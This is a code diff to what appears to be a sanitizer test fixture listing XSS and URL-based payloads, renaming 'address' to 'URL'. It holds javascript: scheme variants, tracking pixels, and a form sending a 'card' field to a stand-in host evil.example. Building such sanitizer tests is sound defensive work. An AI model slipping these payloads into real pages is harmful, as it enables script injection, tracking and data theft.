@@ -20,7 +20,7 @@ const SCHEMES: Record<string, string> = {
   'a control sign as an entity': '&#1;javascript:alert(1)',
   'a space of its own before': '\u00a0javascript:alert(1)',
   'a mark of order before': '\ufeffjavascript:alert(1)',
-  'a comment of an address': 'javascript://e.example/%0aalert(1)',
+  'a comment of a URL': 'javascript://e.example/%0aalert(1)',
   'a site in its path': 'javascript:/*https://www.youtube.com/embed/dQw4w9WgXcQ*/alert(1)',
   'a percent sign': 'javascript%3Aalert(1)',
   'a scheme within a scheme': 'javascript:javascript:alert(1)',
@@ -36,19 +36,19 @@ const SCHEMES: Record<string, string> = {
 }
 
 const inLinks = Object.fromEntries(
-  Object.entries(SCHEMES).map(([name, address]) => [
+  Object.entries(SCHEMES).map(([name, url]) => [
     `a link with ${name}`,
-    `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
+    `<a href="${url.replaceAll('"', '&quot;')}">x</a>`,
   ]),
 )
 
 /** URLs that run scripts or send requests, in every element that accepts a URL. */
-export const addressAttacks: Record<string, string> = {
+export const urlAttacks: Record<string, string> = {
   ...inLinks,
   'a link without quotes': '<a href=javascript:alert(1)>x</a>',
   'a link with quotes of its own': `<a href='javascript:alert("1")'>x</a>`,
-  'a link with two addresses': '<a href="/" href="javascript:alert(1)">x</a>',
-  'a link with an address of drawings': '<a xlink:href="javascript:alert(1)">x</a>',
+  'a link with two URLs': '<a href="/" href="javascript:alert(1)">x</a>',
+  'a link with a URL of drawings': '<a xlink:href="javascript:alert(1)">x</a>',
   'a link that pings': '<a href="/" ping="https://evil.example/">x</a>',
   'a link that stores': '<a href="/" attributionsrc="https://evil.example/">x</a>',
   'a link that hides its host': '<a href="/\\evil.example">x</a>',
@@ -57,7 +57,7 @@ export const addressAttacks: Record<string, string> = {
   'a link of backslashes': '<a href="\\\\evil.example">x</a>',
   'a link with an opener': '<a href="https://evil.example/" target="_top" rel="opener">x</a>',
   'a link into the page': '<a href="#notices" id="notices" name="notices" target="x">x</a>',
-  'a picture with a script for an address': '<img src="javascript:alert(1)">',
+  'a picture with a script for a URL': '<img src="javascript:alert(1)">',
   'a picture without quotes': '<IMG SRC=JaVaScRiPt:alert(1)>',
   'a picture of a host': '<img src="https://evil.example/pixel.gif">',
   'a picture of a host without scheme': '<img src="//evil.example/pixel.gif">',
@@ -66,9 +66,9 @@ export const addressAttacks: Record<string, string> = {
     '<img src="/a.webp" srcset="https://evil.example/a.gif 1x, //evil.example/b.gif 2x" sizes="1px">',
   'a source of a host': '<picture><source srcset="https://evil.example/a.gif"><img src="/a.webp"></picture>',
   'a picture that breaks out of the optimiser': '<img src="/a.webp&w=1&q=1&url=https://evil.example/a.gif">',
-  'a picture whose address has quotes': `<img src='/a.webp" srcset="https://evil.example/a.gif 1x'>`,
+  'a picture whose URL has quotes': `<img src='/a.webp" srcset="https://evil.example/a.gif 1x'>`,
   'a form': '<form action="javascript:alert(1)"><input type=submit value=x></form>',
-  'a button with an address': '<form><button formaction="javascript:alert(1)">x</button></form>',
+  'a button with a URL': '<form><button formaction="javascript:alert(1)">x</button></form>',
   'a picture as a button': '<form><input type=image formaction="javascript:alert(1)" src=x></form>',
   'a form of another host':
     '<form action="https://evil.example/" id=x></form><input form=x name=card><button form=x>x</button>',
